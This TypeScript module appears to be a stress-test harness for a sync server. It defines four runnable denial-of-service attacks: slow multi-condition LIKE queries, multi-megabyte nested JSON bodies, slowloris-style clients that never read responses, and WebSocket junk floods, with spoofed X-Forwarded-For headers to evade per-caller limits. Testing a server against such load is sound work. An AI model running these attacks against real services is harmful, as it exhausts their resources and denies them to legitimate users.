import { connect, type Socket } from "node:net";
import { bearerProtocol } from "@pylonsync/protocol";

export interface Target {
  readonly url: string;
  /** The token of a guest. */
  readonly token: string;
}

/** Begins an attack that continues on its own. A new storm only needs another entry. */
export type Attack = (target: Target) => Promise<void>;

const MIB = 1024 * 1024;
/** Bodies of the maximum size, each made to use as much memory as possible. */
const COSTLY_BODIES = [
  "[".repeat(10 * MIB),
  `[${"[],".repeat(3 * MIB)}[]]`,
  '{"a":'.repeat(2 * MIB),
  `{"changes":[${'{"":{}},'.repeat(MIB)}0]}`,
];
const GARBAGE = "x".repeat(100);
const READERS = 32;
const FLOODING_SOCKETS = 10;

/**
 * The maximum number of conditions in one filter, each of which scans the whole text of every row.
 */
const SLOW_FILTER = {
  $or: Array.from({ length: 16 }, (_, n) => ({ text: { $like: `%${"0".repeat(20)}${n}x%` } })),
};
const SLOW_QUERIES = 8;

export const ATTACKS: ReadonlyMap<string, Attack> = new Map<string, Attack>([
  ["slow queries", slowQueries],
  ["nested bodies", nestedBodies],
  ["readers that read nothing", nonReadingClients],
  ["flooding sockets", floodingSockets],
]);

/** Several at a time, half of them by one caller; rejected requests are repeated. */
async function slowQueries({ url, token }: Target): Promise<void> {
  const ask = async (query: number): Promise<void> => {
    const caller = query % 2 === 0 ? { Authorization: `Bearer ${token}` } : from(query);
    await fetch(`${url}/api/query/Note`, {
      method: "POST",
      headers: caller,
      body: JSON.stringify(SLOW_FILTER),
    }).then(
      (answer) => answer.text(),
      () => undefined,
    );
  };
  for (let query = 0; query < SLOW_QUERIES; query += 1) again(() => ask(query));
  await fetch(`${url}/health`);
}

/** Four at a time, each from another address. */
async function nestedBodies({ url, token }: Target): Promise<void> {
  const send = async (body: string, caller: number): Promise<void> => {
    for (const path of ["/api/entities/Note", "/api/sync/push", "/api/transact", "/api/query"]) {
      await fetch(url + path, {
        method: "POST",
        headers: { Authorization: `Bearer ${token}`, ...from(caller) },
        body,
      }).then(
        (answer) => answer.text(),
        () => undefined,
      );
    }
  };
  for (const [caller, body] of COSTLY_BODIES.entries()) again(() => send(body, caller));
  await send("{}", 0);
}

/** They request everything, and read none of it. */
async function nonReadingClients({ url }: Target): Promise<void> {
  const paths = [
    "/api/entities/Note?limit=1000",
    "/api/sync/pull",
    "/api/entities/Note/cursor?limit=1000",
    "/api/sync/pull?limit=1000",
  ];
  const open = (reader: number): void => {
    const socket = request(url, paths[reader % paths.length] ?? "", reader);
    socket.pause();
    socket.on("error", () => undefined);
    socket.on("close", () => setTimeout(() => open(reader), 250));
  };
  for (let reader = 0; reader < READERS; reader += 1) open(reader);
  await fetch(`${url}/health`);
}

/** Sends junk as fast as possible; a closed connection is reopened. */
async function floodingSockets({ url, token }: Target): Promise<void> {
  const open = (opened: () => void): void => {
    const socket = new WebSocket(`${url.replace("http", "ws")}/ws`, [bearerProtocol(token)]);
    let isOpen = false;
    const send = (): void => {
      for (let n = 0; n < 500 && isOpen && socket.bufferedAmount < 256 * 1024; n += 1)
        socket.send(GARBAGE);
      if (isOpen) setImmediate(send);
    };
    socket.addEventListener("open", () => {
      isOpen = true;
      opened();
      send();
    });
    socket.addEventListener("close", () => {
      isOpen = false;
      setTimeout(() => open(opened), 250);
    });
  };
  await Promise.all(
    Array.from({ length: FLOODING_SOCKETS }, () => new Promise<void>((resolve) => open(resolve))),
  );
}

function again(work: () => Promise<void>): void {
  void work().then(() => again(work));
}

/** A raw request, whose response need not be read. */
function request(url: string, path: string, caller: number): Socket {
  const { hostname, port, host } = new URL(url);
  const socket = connect(Number(port), hostname);
  const headers = Object.entries({ Host: host, ...from(caller) }).map(
    ([name, value]) => `${name}: ${value}\r\n`,
  );
  socket.write(`GET ${path} HTTP/1.1\r\n${headers.join("")}\r\n`);
  return socket;
}

function from(caller: number): Record<string, string> {
  return { "X-Forwarded-For": `203.0.113.${caller}` };
}
